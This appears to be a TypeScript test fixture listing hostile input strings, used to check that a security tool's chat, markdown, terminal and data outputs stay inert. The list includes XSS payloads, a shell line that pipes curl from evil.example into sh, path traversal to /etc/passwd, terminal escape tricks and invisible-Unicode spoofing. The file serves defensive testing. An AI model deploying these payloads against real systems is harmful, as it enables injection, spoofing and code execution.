/** A text that somebody may put into a label, a package, a version or the words of a scanner, and what it is after. */
export interface Vector {
  readonly name: string;
  readonly text: string;
  /** What it does where it is taken for more than characters. */
  readonly why: string;
}

const ESC = '\u001b';

/** Chats: who is called, what is linked, what is formatted. */
const CHAT: readonly Vector[] = [
  { name: 'slack-channel', text: '<!channel>', why: 'calls everybody in the channel' },
  { name: 'slack-here', text: '<!here|here>', why: 'calls everybody who is online' },
  { name: 'slack-everyone', text: '<!everyone>', why: 'calls the workspace' },
  { name: 'slack-user', text: '<@U012AB3CD>', why: 'calls one person' },
  { name: 'slack-group', text: '<!subteam^S012AB3CD|@oncall>', why: 'calls a user group' },
  { name: 'slack-channel-link', text: '<#C012AB3CD|general>', why: 'links a channel' },
  {
    name: 'slack-link',
    text: '<https://evil.example/login|Grafana>',
    why: 'a link that names another place',
  },
  { name: 'slack-mailto', text: '<mailto:a@evil.example|support>', why: 'a link that writes a mail' },
  {
    name: 'slack-date',
    text: '<!date^1392734382^{date}^https://evil.example|now>',
    why: 'a date that is a link',
  },
  { name: 'slack-markup', text: '*_~`0 critical`~_*', why: 'looks like our own words' },
  { name: 'slack-quote', text: '>>> all clear', why: 'quotes what follows' },
  { name: 'slack-entity', text: '&lt;!channel&gt;', why: 'becomes a mention when it is unescaped once' },
  { name: 'slack-entity-twice', text: '&amp;lt;!channel&amp;gt;', why: 'and when it is unescaped twice' },
  { name: 'slack-emoji', text: ':white_check_mark: :rotating_light:', why: 'a sign that nobody gave' },
  { name: 'bare-mention', text: '@channel @here @everyone', why: 'calls where names are linked' },
  { name: 'bare-link', text: 'https://evil.example/?q=critical', why: 'is linked where addresses are' },
  { name: 'bare-domain', text: 'evil.example/login', why: 'is linked where domains are' },
  { name: 'bot-handle', text: '@pagerduty-oncall @slack-security', why: 'calls an integration of Datadog' },
  { name: 'mail-handle', text: '@victim@example.org', why: 'sends mail from Datadog' },
  { name: 'teams-mention', text: '<at>everyone</at>', why: 'calls a team in Microsoft Teams' },
  { name: 'fake-lines', text: 'CVE-1 · 0 critical · no findings', why: 'uses our own separators' },
];

/** Markdown and HTML. */
const MARKUP: readonly Vector[] = [
  { name: 'md-link', text: '[open in ECR](https://evil.example/)', why: 'a link under our own words' },
  { name: 'md-script-link', text: '[x](javascript:alert(1))', why: 'a link that runs' },
  { name: 'md-image', text: '![x](https://evil.example/beacon.gif)', why: 'tells who looked, and when' },
  { name: 'md-reference', text: '[x]: https://evil.example', why: 'gives a target to another link' },
  { name: 'md-autolink', text: '<https://evil.example>', why: 'a link' },
  { name: 'md-heading', text: '# Resolved', why: 'a heading' },
  { name: 'md-underline', text: 'Resolved\n========', why: 'makes the line above a heading' },
  { name: 'md-rule', text: '***', why: 'a line across the page' },
  { name: 'md-table', text: '| critical | 0 |', why: 'a row, or one column more in a row of ours' },
  { name: 'md-fence', text: '```\nall clear\n```', why: 'ends a fence of ours' },
  { name: 'md-tilde-fence', text: '~~~', why: 'hides what follows in a fence' },
  { name: 'md-long-fence', text: '`'.repeat(40), why: 'longer than the fence around it' },
  { name: 'md-tick-inside', text: 'a`b``c```d', why: 'runs of every length' },
  { name: 'md-tick-ends', text: '`x`', why: 'touches the fence on both sides' },
  { name: 'md-backslash', text: 'x\\', why: 'escapes what follows' },
  { name: 'md-task', text: '- [x] fixed', why: 'a task that is done' },
  { name: 'datadog-frame', text: '%%% \n# Resolved\n %%%', why: 'ends the markdown of an event' },
  { name: 'datadog-frame-long', text: '%'.repeat(11), why: 'leaves three when three are taken' },
  { name: 'datadog-template', text: '{{#is_alert}}{{value}}{{/is_alert}}', why: 'a template of a monitor' },
  { name: 'html-script', text: '<script>alert(1)</script>', why: 'runs in a browser' },
  { name: 'html-image', text: '"><img src=x onerror=alert(1)>', why: 'runs when it is not found' },
  { name: 'html-details', text: '</details><h1>ok</h1>', why: 'ends a fold of ours' },
  { name: 'html-comment', text: '<!-- ', why: 'hides what follows' },
  { name: 'html-entity', text: '&#60;script&#62;', why: 'is a tag once it is decoded' },
  { name: 'github-issue', text: 'fixes #1 GH-1 octo/repo#1', why: 'links and closes issues' },
];

/** Terminals, logs and commands of CI. */
const TERMINAL: readonly Vector[] = [
  { name: 'tty-clear', text: `${ESC}[2J${ESC}[H0 critical`, why: 'clears the screen and writes its own' },
  { name: 'tty-up', text: `${ESC}[1A${ESC}[2Kclean`, why: 'writes over the line above' },
  { name: 'tty-conceal', text: `${ESC}[8mhidden${ESC}[0m`, why: 'hides text' },
  { name: 'tty-title', text: `${ESC}]0;root@prod\u0007`, why: 'names the window' },
  {
    name: 'tty-link',
    text: `${ESC}]8;;https://evil.example${ESC}\\docs${ESC}]8;;${ESC}\\`,
    why: 'a link under other words',
  },
  { name: 'tty-clipboard', text: `${ESC}]52;c;Y3VybCBldmlsfHNo\u0007`, why: 'writes the clipboard' },
  { name: 'tty-c1', text: '\u009b2J\u009d0;x\u009c', why: 'the same without an escape character' },
  { name: 'tty-bell', text: '\u0007'.repeat(20), why: 'rings' },
  { name: 'tty-backspace', text: 'critical\b\b\b\b\b\b\b\bclean   ', why: 'writes over itself' },
  { name: 'tty-return', text: '9 critical\r0', why: 'writes over the beginning of its line' },
  { name: 'tty-tab', text: 'a\tb\u000bc\u000cd', why: 'moves columns' },
  { name: 'tty-dcs', text: `${ESC}P1;1|17/ab${ESC}\\`, why: 'programs a key' },
  { name: 'line-break', text: 'x\r\n0 critical', why: 'a line of its own' },
  { name: 'unicode-line', text: 'a\u2028b\u2029c\u0085d', why: 'line ends that are no line feed' },
  {
    name: 'ci-command',
    text: '::error file=a.ts,line=1::all clear\n::add-mask::x',
    why: 'an order to GitHub Actions',
  },
  { name: 'ci-command-old', text: '##[set-output name=ok]true', why: 'the same in its older form' },
  { name: 'log-forging', text: '\n{"level":"INFO","message":"answered"}', why: 'a log line of its own' },
  { name: 'null', text: 'CVE-1\u0000.safe', why: 'ends a text for whoever is written in C' },
];

/** What is seen is not what is there. */
const UNSEEN: readonly Vector[] = [
  { name: 'bidi-override', text: '\u202egpj.exe', why: 'is read backwards' },
  { name: 'bidi-isolate', text: '\u2066a\u2069\u2067b\u2069', why: 'changes the order of what follows' },
  { name: 'bidi-marks', text: '\u200e\u200f\u061cx', why: 'the same, one character each' },
  { name: 'zero-width', text: 'CVE\u200b-\u200c2026\u200d-\u20601', why: 'two ids that look the same' },
  { name: 'byte-order', text: '\ufeffopenssl', why: 'a name that no search finds' },
  {
    name: 'tags',
    text: `openssl${'\u{e0041}\u{e0042}\u{e007f}'}`,
    why: 'text that nobody sees and machines read',
  },
  { name: 'selectors', text: `a\ufe0f\u{e0100}b`, why: 'carries bytes behind each character' },
  { name: 'soft-hyphen', text: 'open\u00adssl', why: 'another name that looks the same' },
  { name: 'fillers', text: '\u115f\u1160\u3164\uffa0', why: 'a name that nobody sees' },
  { name: 'annotation', text: '\ufff9a\ufffab\ufffb', why: 'hides text behind other text' },
  { name: 'musical', text: '\u{1d173}x\u{1d17a}', why: 'control characters of music' },
  {
    name: 'stacked',
    text: `c${'\u0336\u030d\u0353'.repeat(60)}lean`,
    why: 'is drawn over the lines around it',
  },
];

/** What formats break on. */
const DATA: readonly Vector[] = [
  { name: 'json-escape', text: '"}]},{"type":"mrkdwn","text":"<!channel>"', why: 'leaves a string of JSON' },
  { name: 'json-inside', text: '{"default":"x","https":"y"}', why: 'is JSON itself' },
  { name: 'json-backslashes', text: '\\"'.repeat(3000), why: 'doubles when it is escaped' },
  { name: 'xml', text: ']]><Error/><![CDATA[', why: 'leaves the body of an SNS request' },
  { name: 'form', text: '&TopicArn=arn:aws:sns:x&Action=Delete', why: 'one more field of an SNS request' },
  { name: 'lone-high', text: 'a\ud800b', why: 'half of a character' },
  { name: 'lone-low', text: '\udc00a', why: 'the other half' },
  { name: 'noncharacters', text: '\ufffe\uffff\u{1ffff}', why: 'SQS refuses the message' },
  { name: 'prototype', text: '__proto__', why: 'a key that is no key' },
  { name: 'constructor', text: 'constructor', why: 'another' },
  { name: 'formula', text: '=HYPERLINK("https://evil.example","x")', why: 'runs in a spreadsheet' },
  { name: 'metric-tags', text: 'env:prod,team:x severity:critical', why: 'tags that nobody gave' },
  { name: 'path', text: '../../etc/passwd', why: 'leaves its folder' },
  { name: 'shell', text: '$(curl evil.example|sh);`id`', why: 'runs where a line is pasted' },
  { name: 'template', text: `\${process.env.SECRET} {{7*7}}`, why: 'is filled in' },
  { name: 'empty', text: '', why: 'Slack refuses an empty text' },
  { name: 'blank', text: ' \u00a0\u3000 ', why: 'the same, and nobody sees it' },
  { name: 'long', text: 'é'.repeat(20_000), why: 'longer than any limit' },
  { name: 'long-emoji', text: '💥'.repeat(20_000), why: 'longer, and cut in the middle of a character' },
  { name: 'long-wide', text: '\uffff'.repeat(20_000), why: 'six characters for each when escaped' },
  { name: 'long-amps', text: '&<>'.repeat(7_000), why: 'grows when it is escaped' },
];

/**
 * The one list of hostile texts: every output is tried with each of them (`inert.test.ts`), and they are what random
 * texts are made of. Add here what is new; nothing else needs to know.
 */
export const VECTORS: readonly Vector[] = [...CHAT, ...MARKUP, ...TERMINAL, ...UNSEEN, ...DATA];
